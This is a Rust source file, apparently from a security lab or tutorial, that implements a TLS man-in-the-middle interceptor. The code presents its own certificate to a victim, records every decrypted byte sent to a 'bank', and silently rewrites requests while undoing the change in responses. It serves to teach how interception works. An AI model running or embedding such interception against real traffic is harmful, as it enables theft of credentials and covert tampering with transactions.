//! A man in the middle: ends TLS with a certificate of its own, reads and edits what
//! passes, and opens TLS to the real server. Companies sell it, thieves run it; the code
//! is the same.

use std::io;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use rustls::pki_types::ServerName;
use rustls::version::TLS13;
use rustls::{ClientConfig, RootCertStore};
use shared::wiretap::replace_bytes;
use shared::{Identity, LoopbackServer, crypto_provider};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use super::{Host, tls_server};
use crate::lab::server::{TLS_1_2_AND_1_3, server_tls};

/// A running interceptor.
pub struct Interceptor {
    server: LoopbackServer,
    notes: Arc<Mutex<Vec<u8>>>,
}

impl Interceptor {
    /// Stands before `bank` with `identity`, changes `from` to `to` on the way to it, and
    /// back in the answer, so that the victim sees what it expects. Both must have the
    /// same length: HTTP announces the length of a body before.
    pub async fn start(
        bank: &Host,
        roots: Arc<RootCertStore>,
        identity: &Identity,
        (from, to): (&'static str, &'static str),
    ) -> anyhow::Result<Self> {
        let upstream = ClientConfig::builder_with_provider(crypto_provider())
            .with_protocol_versions(&[&TLS13])?
            .with_root_certificates(roots)
            .with_no_client_auth();
        let connector = TlsConnector::from(Arc::new(upstream));
        let (address, name) = (bank.address, ServerName::try_from(bank.name)?);
        let notes = Arc::new(Mutex::new(Vec::new()));
        let pen = notes.clone();
        let tls = server_tls(identity.chain(), identity.key(), TLS_1_2_AND_1_3)?;
        let server = tls_server(tls, move |victim| {
            let (connector, name, pen) = (connector.clone(), name.clone(), pen.clone());
            async move {
                let bank = connector.connect(name, TcpStream::connect(address).await?).await?;
                let (mut victim_in, mut victim_out) = tokio::io::split(victim);
                let (mut bank_in, mut bank_out) = tokio::io::split(bank);
                let order = |bytes: &[u8]| {
                    lock(&pen).extend_from_slice(bytes);
                    replace_bytes(bytes, from.as_bytes(), to.as_bytes())
                };
                let receipt = |bytes: &[u8]| replace_bytes(bytes, to.as_bytes(), from.as_bytes());
                let up = relay(&mut victim_in, &mut bank_out, order);
                let down = relay(&mut bank_in, &mut victim_out, receipt);
                tokio::try_join!(up, down).map(|_| ())
            }
        });
        Ok(Self { server: server.await?, notes })
    }

    /// Where victims are led.
    pub fn address(&self) -> SocketAddr {
        self.server.address()
    }

    /// Every decrypted byte that a victim sent.
    pub fn notes(&self) -> String {
        String::from_utf8_lossy(&lock(&self.notes)).into_owned()
    }
}

// ANCHOR: relay
async fn relay(
    from: &mut (impl AsyncRead + Unpin),
    to: &mut (impl AsyncWrite + Unpin),
    edit: impl Fn(&[u8]) -> Option<Vec<u8>>,
) -> io::Result<()> {
    let mut chunk = vec![0; 16 * 1024];
    loop {
        let read = from.read(&mut chunk).await?;
        let bytes = &chunk[..read];
        if bytes.is_empty() {
            return to.shutdown().await;
        }
        to.write_all(&edit(bytes).unwrap_or_else(|| bytes.to_vec())).await?;
        to.flush().await?;
    }
}
// ANCHOR_END: relay

fn lock<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(PoisonError::into_inner)
}
